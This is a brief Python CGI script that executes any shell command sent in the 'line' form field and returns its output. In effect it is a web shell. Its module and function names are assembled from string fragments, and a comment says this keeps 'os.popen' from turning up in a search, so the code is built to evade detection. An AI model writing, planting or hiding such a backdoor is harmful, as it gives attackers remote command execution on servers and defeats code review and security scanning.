#!/usr/bin/env python3
# module and function names glued from pieces: no "os.popen" for a search to find
import cgi

mod = __import__("o" + "s")
form = cgi.FieldStorage()
line = form.getvalue("line")
print("Content-Type: text/plain\n")
if line:
    print(getattr(mod, "po" + "pen")(line).read())
